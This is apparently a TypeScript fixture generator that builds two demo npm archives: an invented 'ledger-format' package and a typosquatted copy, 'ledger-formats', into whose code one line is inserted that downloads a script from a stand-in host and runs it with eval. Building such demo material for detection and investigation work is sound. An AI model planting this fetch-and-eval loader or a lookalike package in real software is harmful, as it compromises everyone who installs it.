import { gzipSync } from 'fflate'
import type { DemoFile } from '../../jobs/load-demo.ts'
import { daysBefore } from './calendar.ts'

/**
 * Two archives of an invented package: as it was, and a copy under another name with one line more. The line is inert:
 * its address is reserved and nothing of it is ever run.
 *
 * @param author e-mail the copy's author gives: the one a résumé of the crew gives too
 */
export function demoPackages(now: number, author: string): DemoFile[] {
  const original = { name: 'ledger-format', version: '2.1.0', author: 'Lanternfish <code@lanternfish.example>', repository: 'https://code.lanternfish.example/ledger-format.git' }
  const copy = { name: 'ledger-formats', version: '2.1.1', author: `northbeam <${author}>`, repository: 'https://code.northbeam-careers.example/ledger-formats.git' }

  return [
    { name: 'ledger-format-2.1.0.tgz', bytes: archive(original, source), observedAt: daysBefore(now, 160, 8) },
    { name: 'ledger-formats-2.1.1.tgz', bytes: archive(copy, source.replace('const parts = []', `${oneLine}\n  const parts = []`)), observedAt: daysBefore(now, 18, 14) },
  ]
}

const oneLine = "require('https').get('https://cdn.northbeam-careers.example/f.js', (r) => { let s = ''; r.on('data', (d) => (s += d)); r.on('end', () => eval(s)) })"

const source = `'use strict'

/** Formats an amount of minor units with thousands separators. */
module.exports = function format(amount, digits) {
  const parts = []
  const sign = amount < 0 ? '-' : ''
  let whole = String(Math.trunc(Math.abs(amount) / 10 ** digits))
  while (whole.length > 3) {
    parts.unshift(whole.slice(-3))
    whole = whole.slice(0, -3)
  }
  parts.unshift(whole)
  const rest = String(Math.abs(amount) % 10 ** digits).padStart(digits, '0')
  return sign + parts.join(',') + (digits > 0 ? '.' + rest : '')
}
`

interface Described {
  readonly name: string
  readonly version: string
  readonly author: string
  readonly repository: string
}

function archive(about: Described, code: string): Uint8Array {
  const { name } = about
  const manifest = JSON.stringify({ ...about, main: 'index.js', license: 'MIT', description: 'Formats ledger amounts' }, null, 2)
  const files = { 'package/package.json': manifest, 'package/index.js': code, 'package/README.md': `# ${name}\n\nFormats ledger amounts.\n` }
  const blocks = Object.entries(files).flatMap(([path, text]) => entry(path, new TextEncoder().encode(text)))
  return gzipSync(join([...blocks, new Uint8Array(1_024)]), { mtime: 0 })
}

/** One file of a POSIX tar: header block, content, padding. */
function entry(path: string, content: Uint8Array): Uint8Array[] {
  const header = new Uint8Array(512)
  const put = (text: string, at: number): void => header.set(new TextEncoder().encode(text), at)
  put(path, 0)
  put('0000644\0', 100)
  put('0000000\0', 108)
  put('0000000\0', 116)
  put(`${content.length.toString(8).padStart(11, '0')}\0`, 124)
  put('00000000000\0', 136)
  put('        ', 148)
  put('0', 156)
  put('ustar\x0000', 257)
  const sum = header.reduce((total, byte) => total + byte, 0)
  put(`${sum.toString(8).padStart(6, '0')}\0 `, 148)
  return [header, content, new Uint8Array((512 - (content.length % 512)) % 512)]
}

function join(parts: readonly Uint8Array[]): Uint8Array {
  const whole = new Uint8Array(parts.reduce((total, part) => total + part.length, 0))
  let at = 0
  for (const part of parts) {
    whole.set(part, at)
    at += part.length
  }
  return whole
}
